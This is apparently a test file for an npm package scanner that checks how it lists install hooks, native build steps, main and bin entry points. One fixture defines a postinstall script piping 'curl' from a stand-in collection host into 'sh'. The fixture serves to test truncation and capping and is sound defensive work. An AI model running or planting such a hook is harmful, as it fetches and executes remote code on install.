import assert from 'node:assert/strict';
import { test } from 'node:test';
import { MAX_ENTRY_POINTS } from '../../../src/engine/scan/entryPoints';
import { ENGINE_VERSION } from '../../../src/engine/scan/result';
import { scanContents } from '../../../src/engine/scan/scanContents';
import type { PackageFile, TarballContents } from '../../../src/engine/tarball/types';

const file = (path: string, text: string): PackageFile => ({ path, size: text.length, mode: 0o644, head: new Uint8Array(), binary: false, truncated: false, text });
const contents = (manifest: Record<string, unknown> | undefined, files: PackageFile[]): TarballContents => ({
  files: [...(manifest ? [file('package.json', JSON.stringify(manifest))] : []), ...files],
  ...(manifest ? { manifest } : {}),
  capsHit: [], suspiciousPaths: [], specialEntries: [], duplicatePaths: [], totalUnpackedBytes: 0, fileCount: files.length, topFolders: ['package'], warnings: [],
});
const scan = (manifest: Record<string, unknown> | undefined, files: PackageFile[] = []) => scanContents(contents(manifest, files), { target: 't' });

test('install hooks are install-time entry points, prepare and uninstall hooks are listed but not install-time', () => {
  const result = scan(
    { name: 'fixture-pkg', version: '1.0.0', scripts: { test: 'node test.js', postuninstall: 'node bye.js', prepare: 'tsc', postinstall: 'node setup.js', preinstall: 'node check.js' } },
    [file('setup.js', 'module.exports = 1;\n'), file('check.js', 'module.exports = 2;\n')],
  );
  assert.deepEqual(result.entryPoints, [
    { kind: 'lifecycle', label: 'preinstall', detail: 'node check.js', installTime: true },
    { kind: 'lifecycle', label: 'postinstall', detail: 'node setup.js', installTime: true },
    { kind: 'lifecycle', label: 'prepare', detail: 'tsc', installTime: false },
    { kind: 'lifecycle', label: 'postuninstall', detail: 'node bye.js', installTime: false },
  ]);
  assert.equal(ENGINE_VERSION, '0.4.1');
});

test('a root binding.gyp without an install or preinstall script means npm runs node-gyp rebuild', () => {
  const gyp = file('binding.gyp', "{ 'targets': [{ 'target_name': 'addon', 'sources': ['addon.cc'] }] }\n");
  const native = scan({ name: 'native-pkg', version: '1.0.0', main: 'lib/addon.js' }, [gyp, file('addon.cc', 'int x;\n'), file('lib/addon.js', 'module.exports = 1;\n')]);
  assert.deepEqual(native.entryPoints, [
    { kind: 'binding.gyp', label: 'binding.gyp', detail: 'node-gyp rebuild', installTime: true },
    { kind: 'main', label: 'main', detail: 'lib/addon.js', installTime: false },
  ]);
  const ownInstall = scan({ name: 'native-pkg', version: '1.0.0', scripts: { install: 'prebuild-install || node-gyp rebuild' } }, [gyp]);
  assert.deepEqual(ownInstall.entryPoints, [{ kind: 'lifecycle', label: 'install', detail: 'prebuild-install || node-gyp rebuild', installTime: true }]);
  const optedOut = scan({ name: 'native-pkg', version: '1.0.0', gypfile: false }, [gyp]);
  assert.deepEqual(optedOut.entryPoints, []);
  const nested = scan({ name: 'native-pkg', version: '1.0.0' }, [file('deps/binding.gyp', gyp.text!)]);
  assert.deepEqual(nested.entryPoints, []);
});

test('main defaults to index.js only when it exists; bins are listed by command name, a string bin under the unscoped name', () => {
  const withIndex = scan({ name: '@acme/tool', version: '2.0.0', bin: './cli.js' }, [file('index.js', 'module.exports = 1;\n'), file('cli.js', '#!/usr/bin/env node\n')]);
  assert.deepEqual(withIndex.entryPoints, [
    { kind: 'main', label: 'main', detail: 'index.js', installTime: false },
    { kind: 'bin', label: 'tool', detail: './cli.js', installTime: false },
  ]);
  const noIndex = scan({ name: 'tool', version: '2.0.0', bin: { tool: 'bin/tool.js', 'tool-admin': 'bin/admin.js', broken: 42 } }, [file('bin/tool.js', '1;\n')]);
  assert.deepEqual(noIndex.entryPoints, [
    { kind: 'bin', label: 'tool', detail: 'bin/tool.js', installTime: false },
    { kind: 'bin', label: 'tool-admin', detail: 'bin/admin.js', installTime: false },
  ]);
});

test('hostile manifests: non-string scripts are ignored, long commands are cut, the list is capped', () => {
  const long = `curl -s https://collect.example.invalid/${'a'.repeat(5000)} | sh`;
  const bins = Object.fromEntries(Array.from({ length: 500 }, (_, i) => [`cmd${i}`, `bin/${i}.js`]));
  const result = scan({ name: 'evil-pkg', version: '1.0.0', scripts: { preinstall: { toString: 'x' }, postinstall: long }, bin: bins, main: 7 });
  const points = result.entryPoints!;
  assert.equal(points.length, MAX_ENTRY_POINTS);
  assert.deepEqual(points[0], { kind: 'lifecycle', label: 'postinstall', detail: `${long.slice(0, 999)}…`, installTime: true });
  assert.equal(points[1]!.label, 'cmd0');
  assert.equal(points.filter((p) => p.kind === 'main').length, 0);
});

test('no manifest: no entry points, but the field is there (contents were read)', () => {
  assert.deepEqual(scan(undefined, [file('readme.txt', 'hello\n')]).entryPoints, []);
});
